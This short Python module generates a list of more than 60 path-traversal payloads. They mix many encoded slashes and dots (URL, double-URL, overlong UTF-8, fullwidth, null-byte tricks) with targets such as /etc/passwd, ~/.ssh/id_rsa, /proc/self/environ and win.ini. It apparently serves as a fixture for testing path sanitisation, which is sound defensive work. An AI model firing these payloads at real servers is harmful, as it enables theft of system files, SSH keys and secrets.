"""Ways to write a path that leaves its folder: {up} leads there by steps, {at} from the root."""

_SLASHES = ("/", "%2f", "%2F", "%252f", "%25252f", "\\", "%5c", "%255c", "%c0%af", "%e0%80%af", "%ef%bc%8f", "%u2215")
_DOTS = ("..", "%2e%2e", ".%2e", "%2E.", "%252e%252e", "%c0%ae%c0%ae", "....", "..;", "..%00", "%ef%bc%8e%ef%bc%8e")
_ETC = "etc/passwd"


def _steps(dots: str, slash: str) -> str:
    return slash.join([dots] * 12 + _ETC.split("/"))


ENCODINGS = [
    "{up}",
    "{at}",
    "/{at}",
    "%2f{at}",
    "//etc/passwd",
    "/%2fetc%2fpasswd",
    "file:///etc/passwd",
    "file:%2f%2f%2fetc%2fpasswd",
    "C:\\Windows\\win.ini",
    "\\\\127.0.0.1\\share\\secret.txt",
    "....//....//....//....//....//....//etc/passwd",
    "..././..././..././..././..././etc/passwd",
    "page.css/../../../../../../../../../../etc/passwd",
    "./../../../../../../../../../../../etc/passwd",
    "page.css%00/../../../../../../../../etc/passwd",
    "..%c1%9c..%c1%9c..%c1%9c..%c1%9cetc%c1%9cpasswd",
    "~/.ssh/id_rsa",
    "%7e/.bashrc",
    "proc/self/environ",
    "%2fproc%2fself%2fenviron",
    *(_steps("..", slash) for slash in _SLASHES),
    *(_steps(dots, "/") for dots in _DOTS[1:]),
    *(_steps(dots, "%2f") for dots in _DOTS[1:]),
    *(_steps(dots, "\\") for dots in _DOTS[1:6]),
    *(_steps(dots, "%5c") for dots in _DOTS[1:6]),
]
assert len(ENCODINGS) == len(set(ENCODINGS)) >= 60
